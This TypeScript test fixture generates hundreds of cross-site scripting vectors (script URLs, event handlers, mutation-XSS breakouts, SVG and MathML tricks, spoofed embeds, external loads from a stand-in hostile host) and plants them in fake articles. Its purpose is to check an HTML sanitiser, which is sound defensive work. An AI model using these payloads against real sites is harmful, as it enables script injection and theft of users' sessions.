/**
 * Hostile HTML, put together from tags, attributes, schemes, encodings and the tricks that make a sanitiser and a browser
 * read the same text differently. Scripts set `window.__hit`; external resources are on `hostile.example`.
 */

/** The script of every vector; where it runs, the page is vulnerable. */
const hit = "window.__hit=1";
const hostileOrigin = "https://hostile.example";

const encode = (text: string, encodeChar: (code: number) => string) =>
  Array.from(text, (char) => encodeChar(char.codePointAt(0) ?? 0)).join("");

/** `javascript:` in spellings that browsers accept and filters may miss. */
const scriptUrls = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  ` javascript:${hit}`,
  `\u0001javascript:${hit}`,
  `java\tscript:${hit}`,
  `java\nscript:${hit}`,
  `java\r\nscript:${hit}`,
  `java&#x09;script:${hit}`,
  `java&#10;script:${hit}`,
  `java&Tab;script&colon;${hit}`,
  `javascript&colon;${hit}`,
  `&#106avascript:${hit}`,
  `${encode("javascript:", (code) => `&#${code};`)}${hit}`,
  `${encode("javascript:", (code) => `&#0000${code}`)};${hit}`,
  `${encode("javascript:", (code) => `&#x${code.toString(16)};`)}${hit}`,
  `javascript://%0a${hit}`,
  `javascript:/*--></title></style></textarea></script></xmp>*/${hit}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${hit}</script>`,
  `data:text/html;base64,${btoa(`<script>${hit}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>`,
  `view-source:javascript:${hit}`,
  `feed:javascript:${hit}`,
  `blob:${hit}`,
  `filesystem:${hit}`,
];

/** Positions of a URL in markup. */
const urlAttributes = (url: string) => [
  `<a href="${url}">a</a>`,
  `<img src="${url}">`,
  `<iframe src="${url}"></iframe>`,
  `<form action="${url}"><button>b</button></form>`,
  `<svg><a xlink:href="${url}"><text y="9">t</text></a></svg>`,
  `<figure data-embed="${url}">f</figure>`,
];

const eventTags = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "details open",
  "p",
  "table background=x",
  "input autofocus",
  "iframe",
  "a href=#",
  "figure",
  "h2",
];
const events = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onanimationstart",
  "onpointerrawupdate",
  "onbeforematch",
  "ONERROR",
  "onerror\n",
  "formaction onerror",
];

/** Spellings of one attribute. */
const quotings = [
  (name: string) => `${name}="${hit}"`,
  (name: string) => `${name}='${hit}'`,
  (name: string) => `${name}=${hit}`,
  (name: string) => `/${name}=${hit}`,
  (name: string) => `x="'"${name}="${hit}"`,
  (name: string) => `${name}\u000c=\u000c"${encode(hit, (code) => `&#${code};`)}"`,
];

const payload = `<img src=x onerror=${hit}>`;

/** Elements whose content one parser reads as text and another as markup. */
const rawElements = [
  "noscript",
  "style",
  "title",
  "textarea",
  "xmp",
  "iframe",
  "noembed",
  "noframes",
  "template",
  "plaintext",
  "script",
  "option",
  "select",
];
const foreign = [
  "svg",
  "math",
  "math><mtext",
  "math><annotation-xml encoding=text/html",
  "svg><desc",
  "svg><foreignObject",
  "svg><title",
  "math><mi",
  "table",
  "form",
  "a",
  "select",
];

const mutations = rawElements.flatMap((raw) => [
  `<${raw}>${payload}</${raw}>`,
  `<${raw}><p title="</${raw}>${payload.replaceAll('"', "")}">`,
  `<${raw}><a title="</${raw}><img src=x onerror=${hit}>">x</a></${raw}>`,
  `<${raw}><!--</${raw}>${payload}--></${raw}>`,
  `<${raw}/>${payload}`,
  `<${raw}>&lt;/${raw}&gt;&lt;img src=x onerror=${hit}&gt;`,
  `</${raw}>${payload}<${raw}>`,
]);

const nested = foreign.flatMap((outer) =>
  ["style", "title", "noscript", "textarea", "xmp", "template"].map(
    (inner) => `<${outer}><${inner}><a id="</${inner}>${payload}">`,
  ),
);

const breakouts = [
  `"><script>${hit}</script>`,
  `'><script>${hit}</script>`,
  `</p><script>${hit}</script>`,
  `--><script>${hit}</script>`,
  `]]><script>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<<script>${hit}//<</script>`,
  `<script src=${hostileOrigin}/x.js></script>`,
  `<script\n>${hit}</script\n>`,
  `<script/x>${hit}</script/x>`,
  `<script>${hit}`,
  `<script type=module>${hit}</script>`,
  `<SCRIPT>${hit}</SCRIPT>`,
  `<\u0000script>${hit}</script>`,
  `<script\u0000>${hit}</script>`,
  `%3Cscript%3E${hit}%3C/script%3E`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${hit}&amp;lt;/script&amp;gt;`,
  `\uFF1Cscript\uFF1E${hit}\uFF1C/script\uFF1E`,
  `<img """><script>${hit}</script>">`,
  `<img src="x\u0060 \u0060onerror=${hit}">`,
  `<img src=x:x onerror=${hit} //`,
  `<img src="x" title="><img src=y onerror=${hit}>">`,
  `<img src=/media/x.png srcset="${hostileOrigin}/a.png 1x" onerror=${hit}>`,
  `<image src=x onerror=${hit}>`,
  `<!--><img src=x onerror=${hit}>-->`,
  `<!--!><img src=x onerror=${hit}>-->`,
  `<!--<img src="--><img src=x onerror=${hit}//">`,
  `<!-- --!><img src=x onerror=${hit}> -->`,
  `<![CDATA[<img src=x onerror=${hit}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${hit}>`,
  `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${hit}>">]>&e;`,
  `<svg><![CDATA[><img src=x onerror=${hit}>]]></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><script href=data:,${hit} /></svg>`,
  `<svg><animate attributeName=href values=javascript:${hit} /><a id=x><text>t</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${hit} /><text y=20>t</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${hit}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${hit}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__hit=1</script>"></iframe></foreignObject></svg>`,
  `<math href=javascript:${hit}>m</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${hit}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${hit}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${hit}></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  `<template><style></template><img src=x onerror=${hit}></style>`,
  `<select><option><style></option></select><img src=x onerror=${hit}></style>`,
  `<table><td><p><table><style><!--</style><img src=x onerror=${hit}>-->`,
  `<iframe srcdoc="<img src=x onerror=parent.__hit=1>"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>parent.__hit=1</script>" onload=${hit}></iframe>`,
  `<iframe src="https://www.youtube.com.hostile.example/embed/abcdef"></iframe>`,
  `<iframe src="https://hostile.example/#https://www.youtube.com/embed/abcdef"></iframe>`,
  `<iframe src="https://www.youtube.com@hostile.example/embed/abcdef"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/x%22%3E%3Cscript%3E${hit}%3C/script%3E"></iframe>`,
  `<iframe src="https://w.soundcloud.com/player/?url=javascript:${hit}"></iframe>`,
  `<iframe src="//open.spotify.com/embed/episode/x"onload=${hit}"></iframe>`,
  `<figure data-embed="https://www.youtube.com/watch?v=abcdef" onclick=${hit}><a href="javascript:${hit}">w</a></figure>`,
  `<object data="data:text/html,<script>${hit}</script>"></object>`,
  `<object data=${hostileOrigin}/x.swf><param name=movie value=javascript:${hit}></object>`,
  `<embed src=javascript:${hit}>`,
  `<embed code=${hostileOrigin}/x.swf allowscriptaccess=always>`,
  `<applet code=x onerror=${hit}></applet>`,
  `<link rel=stylesheet href=${hostileOrigin}/x.css>`,
  `<link rel=import href=${hostileOrigin}/x.html>`,
  `<link rel=preload as=script href=${hostileOrigin}/x.js onload=${hit}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  `<meta http-equiv=refresh content="0;url=${hostileOrigin}/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href=${hostileOrigin}/>`,
  `<base target=_top>`,
  `<style>@import url(${hostileOrigin}/x.css)</style>`,
  `<style>*{background:url(${hostileOrigin}/x.png)}</style>`,
  `<style>@keyframes x{}</style><p style="animation:x" onanimationstart=${hit}>p</p>`,
  `<p style="background:url(${hostileOrigin}/x.png)">p</p>`,
  `<p style="behavior:url(${hostileOrigin}/x.htc);-moz-binding:url(${hostileOrigin}/x.xml)">p</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<p id="root" class="skip-link" name="location">clobbering</p>`,
  `<form id=x></form><button form=x formaction=javascript:${hit}>b</button>`,
  `<form><input name=action value=x><input type=image src=x onerror=${hit}></form>`,
  `<isindex type=image src=x onerror=${hit}>`,
  `<marquee onstart=${hit}>m</marquee>`,
  `<bgsound src=javascript:${hit}>`,
  `<audio src=x onerror=${hit}></audio>`,
  `<video><source src=x onerror=${hit}></video>`,
  `<video poster=javascript:${hit}></video>`,
  `<picture><source srcset=${hostileOrigin}/x.png><img src=/x.png onerror=${hit}></picture>`,
  `<img src="${hostileOrigin}/tracker.png" alt="tracker">`,
  `<a href="/ok"><img src="${hostileOrigin}/tracker.png" alt="tracker in a link"></a>`,
  `<img src="/\\hostile.example/x.png">`,
  `<img src="\\\\hostile.example\\x.png">`,
  `<img src="//hostile.example/x.png">`,
  `<img lowsrc=javascript:${hit} dynsrc=javascript:${hit}>`,
  `<portal src=${hostileOrigin}></portal>`,
  `<frameset onload=${hit}><frame src=javascript:${hit}></frameset>`,
  `<dialog open onclose=${hit}>d</dialog>`,
  `<p popover=auto onbeforetoggle=${hit} contenteditable autofocus onfocus=${hit} tabindex=1>p</p>`,
  `<custom-element onclick=${hit}>c</custom-element>`,
  `<slot onslotchange=${hit}></slot>`,
  `<p is="x" slot="y" part="z" itemscope itemprop=url content=javascript:${hit}>p</p>`,
  `<a href="x" ping="${hostileOrigin}/ping" target="_blank" rel="opener">a</a>`,
  `<a href="https://a.example/" title='"><script>${hit}</script>'>t</a>`,
  `<a href="https://a.example/?x=</script><script>${hit}</script>">t</a>`,
  `<a href="https://a.example/&quot;onmouseover=&quot;${hit}">t</a>`,
  `<abbr title="--><img src=x onerror=${hit}>">abbr</abbr>`,
  `<table><caption>"><img src=x onerror=${hit}></caption><tr><td>1</td></tr></table>`,
  `<table><caption>&quot; onfocus=&quot;${hit}</caption><tr><td>1</td></tr></table>`,
  `<table><tr><td><table><caption>"'></caption></table></td></tr></table></table>`,
  `<h2>"><img src=x onerror=${hit}></h2>`,
  `<h2>&quot; autofocus onfocus=${hit} x=&quot;</h2>`,
  `<h2><a href="/x">link</a> in a heading</h2><h3></h3><h2><h3>both</h2></h3>`,
  `<h2>__proto__</h2><h2>constructor</h2><h2>root</h2>`,
  `<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;${hit}&lt;/script&gt;</code></pre>`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `</script><script>${hit}</script>`,
  `\u2028<script>${hit}</script>\u2029`,
  `${"<b>".repeat(300)}${payload}`,
  `${"<svg>".repeat(50)}<style><a id="</style>${payload}">`,
  `<p ${"a".repeat(2000)}=1 onclick=${hit}>long</p>`,
];

const vectors = new Set([
  ...breakouts,
  ...scriptUrls.flatMap(urlAttributes),
  ...eventTags.flatMap((tag, t) =>
    events.map((event, e) => `<${tag} ${quotings[(t + e) % quotings.length]?.(event)}>`),
  ),
  ...mutations,
  ...nested,
]);

/** Unclosed: everything after them is text, so these come last. */
const opensPlainText = (vector: string) => vector.includes("<plaintext");

/** Every vector once; more than five hundred. */
export const hostileVectors: readonly string[] = [
  ...[...vectors].filter((vector) => !opensPlainText(vector)),
  ...[...vectors].filter(opensPlainText),
];

/** Closes whatever a vector left open, so that the next one is parsed as markup again. */
const closers = `"'>--></script></style></textarea></title></xmp></noembed></noframes></noscript></iframe></template></option></option></option></select></svg></math></plaintext>`;

/** Text after a vector, which shows whether parsing recovered. */
export const endMark = (n: number) => `end-of-vector-${n}`;

/** Every vector with its number, followed by closing tags and a marker. */
export const markedVectors = hostileVectors.map((vector, n) => `${vector}${closers}<p>${endMark(n)}</p>`);

/** The fields of a stored article that contain HTML (spec 3). */
export const htmlFields = ["introduction", "section_1", "section_2", "section_3", "conclusion", "cta"] as const;

export type HostileArticle = Record<
  (typeof htmlFields)[number] | "slug" | "title" | "summary" | "category" | "author" | "keywords" | "seo_description",
  string
>;

const articleCount = 12;

/** A handful of articles that contain all vectors in their HTML fields together, and some in every other field. */
export function hostileArticles(): HostileArticle[] {
  return Array.from({ length: articleCount }, (_, article) => {
    const parts = Object.fromEntries(
      htmlFields.map((field, f) => {
        const ofField = markedVectors.filter(
          (_, n) => n % (articleCount * htmlFields.length) === article * htmlFields.length + f,
        );
        // PostgreSQL stores no NUL; vectors with one are tested without a database.
        return [field, ofField.join("\n").replaceAll("\0", "")];
      }),
    ) as Record<(typeof htmlFields)[number], string>;
    const text = (offset: number) =>
      `${breakouts[(article * 7 + offset) % breakouts.length]} ${article}.${offset}`.replaceAll("\0", "");
    return {
      ...parts,
      slug: `hostile-${article}`,
      title: text(0),
      summary: text(1),
      category: `Hostile "><script>${hit}</script>`,
      author: text(2),
      keywords: text(3),
      seo_description: text(4),
    };
  });
}
